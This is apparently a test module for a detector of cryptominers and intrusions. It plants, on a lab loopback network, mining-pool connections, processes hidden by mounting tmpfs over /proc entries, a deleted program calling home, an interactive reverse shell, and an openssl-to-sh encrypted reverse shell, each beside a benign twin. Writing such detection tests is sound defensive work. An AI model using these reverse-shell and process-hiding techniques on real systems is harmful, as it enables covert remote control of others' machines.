"""Connections to pools and from suspicious programs, over this room's own loopback device."""

from __future__ import annotations

import json
import os
import socket
from typing import Any

from tests.lab.case import case
from tests.lab.namespaces import bring_up_loopback, new_mounts, new_network
from tests.lab.room import CDN_POOL, CONTROL_SERVER, LISTED_POOL, POOL, Planted, Room


@case(3, pool_connection="pid")
def pool_of_the_operator(room: Room) -> Planted:
    """a connection to a pool on the operator's list."""
    return {"pid": room.connect(POOL, room.program("/opt/run/worker"))}


@pool_of_the_operator.twin
def _(room: Room) -> Planted:
    """a connection to a web port of the same address."""
    return {"pid": room.connect((POOL[0], 8443), room.program("/opt/shop/server"))}


@case(3, pool_connection="pid")
def pool_of_the_list(room: Room) -> Planted:
    """a connection to a pool on the built-in list."""
    return {"pid": room.connect(LISTED_POOL, room.program("/opt/run/worker"))}


@pool_of_the_list.twin
def _(room: Room) -> Planted:
    """a connection to a port that pools like, at an address of nobody's list."""
    return {"pid": room.connect((CONTROL_SERVER[0], 3333), room.program("/opt/shop/client"))}


@case(3, pool_connection="pid")
def pool_in_arguments(room: Room) -> Planted:
    """a pool on no list, named by a stratum URL."""
    remote = (CONTROL_SERVER[0], 20580)
    return {"pid": room.connect(remote, room.program("/opt/run/worker"), "-o", f"stratum+tcp://{remote[0]}:{remote[1]}")}


@pool_in_arguments.twin
def _(room: Room) -> Planted:
    """a database named by its URL."""
    remote = (CONTROL_SERVER[0], 5432)
    return {"pid": room.connect(remote, room.program("/opt/shop/api"), f"postgres://{remote[0]}:{remote[1]}/shop")}


def configuration(url: str, **more: Any) -> str:
    """A miner's config.json, as xmrig writes it, in short."""
    pool = {"url": url, "user": "x", "algo": "rx/0", "keepalive": True}
    return json.dumps({"autosave": True, "donate-level": 0, "randomx": {"mode": "auto"}, "cpu": True, "pools": [pool], **more})


@case(3, pool_connection="pid")
def pool_in_configuration(room: Room) -> Planted:
    """a pool named only in the config.json beside the program."""
    remote = (CONTROL_SERVER[0], 20581)
    room.write("/opt/run/config.json", configuration("{}:{}".format(*remote)))
    return {"pid": room.connect(remote, room.program("/opt/run/worker"))}


@pool_in_configuration.twin
def _(room: Room) -> Planted:
    """a server whose config.json names a pool of database connections."""
    remote = (CONTROL_SERVER[0], 5433)
    text = json.dumps({"pool": {"url": "postgres://{}:{}/shop".format(*remote), "size": 20}, "cpu": 2})
    room.write("/opt/wiki/config.json", text)
    return {"pid": room.connect(remote, room.program("/opt/wiki/server"))}


def in_network_of_its_own(remote: tuple[str, int]) -> None:
    """Move into a new network namespace and leave a connection there to whatever program follows."""
    new_network()
    bring_up_loopback(remote[0])
    server = socket.create_server(remote)
    client = socket.create_connection(remote)
    accepted, _ = server.accept()
    for end in (client, accepted):
        os.set_inheritable(end.detach(), True)


@case(3, pool_connection_likely="pid")
def pool_behind_cdn(room: Room) -> Planted:
    """a listed pool whose address a CDN shares between its customers."""
    return {"pid": room.connect(CDN_POOL, room.program("/opt/run/worker"))}


@pool_behind_cdn.twin
def _(room: Room) -> Planted:
    """a website at that CDN."""
    return {"pid": room.connect((CDN_POOL[0], 8445), room.program("/opt/shop/fetch"))}


@case(8, pool_connection="pid")
def pool_from_another_network(room: Room) -> Planted:
    """a connection to a pool inside a container-like network namespace."""
    program = room.program("/opt/run/worker")
    return {"pid": room.start(program, close_fds=False, before=lambda: in_network_of_its_own(POOL))}


@pool_from_another_network.twin
def _(room: Room) -> Planted:
    """a database connection inside such a network namespace."""
    program = room.program("/opt/shop/worker")
    return {"pid": room.start(program, close_fds=False, before=lambda: in_network_of_its_own((POOL[0], 5432)))}


@case(8, unowned_pool_connection="remote_port", hidden_processes="pid")
def pool_of_a_hidden_process(room: Room) -> Planted:
    """a connection to a pool whose owner is hidden by a mount."""
    pid = room.connect(POOL, room.program("/opt/run/worker"))
    room.mount("none", f"/proc/{pid}", "tmpfs", 0)
    return {"pid": pid, "remote_port": POOL[1]}


@pool_of_a_hidden_process.twin
def _(room: Room) -> Planted:
    """a visible process with a connection to a message queue."""
    pid = room.connect((CONTROL_SERVER[0], 9092), room.program("/opt/shop/queue"))
    return {"pid": pid, "remote_port": 9092}


@case(8, unowned_outbound_connection="remote_port")
def hidden_process_calls_home(room: Room) -> Planted:
    """a connection to the outside whose owner is hidden by a mount."""
    pid = room.connect((CONTROL_SERVER[0], 4444), room.program("/opt/run/worker"))
    room.mount("none", f"/proc/{pid}", "tmpfs", 0)
    return {"remote_port": 4444}


@hidden_process_calls_home.twin
def _(room: Room) -> Planted:
    """a connection whose owner runs in another mount namespace."""
    pid = room.connect((CONTROL_SERVER[0], 4445), room.program("/opt/shop/agent"), before=new_mounts)
    return {"pid": pid, "remote_port": 4445}


@case(3, suspect_program_on_network="pid")
def deleted_program_calls_home(room: Room) -> Planted:
    """a deleted program with a connection to the outside."""
    pid = room.connect(CONTROL_SERVER, room.program("/opt/run/worker"))
    os.unlink("/opt/run/worker")
    return {"pid": pid}


@deleted_program_calls_home.twin
def _(room: Room) -> Planted:
    """a program in its place with the same connection."""
    return {"pid": room.connect((CONTROL_SERVER[0], 8444), room.program("/opt/shop/mailer"))}


@case(8, suspect_program_on_network="pid")
def listener_in_tmp(room: Room) -> Planted:
    """a program in /tmp that listens."""
    return {"pid": room.listen("0.0.0.0", 5555, room.program("/tmp/a"))}


@listener_in_tmp.twin
def _(room: Room) -> Planted:
    """a service that listens."""
    return {"pid": room.listen("0.0.0.0", 8080, room.program("/opt/shop/web"))}


def connected(room: Room, *argv: str) -> int:
    """Start a program whose standard input, output and errors are a connection to the control server; its pid."""
    remote = (CONTROL_SERVER[0], 4444)
    with socket.create_server(remote) as server:
        client = socket.create_connection(remote)
        accepted, _ = server.accept()
    room.afterwards(accepted.close)
    with client:
        return room.start(
            *argv, before=lambda: [os.dup2(client.fileno(), number) for number in (0, 1, 2)], pass_fds=[client.fileno()]
        )


@case(3, shell_over_a_connection="pid")
def reverse_shell(room: Room) -> Planted:
    """an interactive shell whose input is a connection to elsewhere."""
    return {"pid": connected(room, "/bin/sh", "-i")}


@reverse_shell.twin
def _(room: Room) -> Planted:
    """a service's script that a super-server gave the connection to."""
    script = room.write("/usr/local/bin/agent", "#!/bin/sh\nread question\n", 0o755)
    return {"pid": connected(room, "/bin/sh", script)}


@case(3, needs=("openssl",), shell_over_a_connection="pid")
def encrypted_reverse_shell(room: Room) -> Planted:
    """a shell that reads what openssl brings from elsewhere, through a plain pipe."""
    remote = (CONTROL_SERVER[0], 4446)
    server = socket.create_server(remote)
    room.afterwards(server.close)
    pid = room.start("sh", "-c", "openssl s_client -quiet -connect {}:{} | exec sh; :".format(*remote))
    return {"pid": room.child_of(pid, "sh")}


@encrypted_reverse_shell.twin
def _(room: Room) -> Planted:
    """openssl showing a server's certificate to a filter."""
    remote = (CONTROL_SERVER[0], 4447)
    server = socket.create_server(remote)
    room.afterwards(server.close)
    return {"pid": room.start("sh", "-c", "openssl s_client -connect {}:{} | cat".format(*remote))}
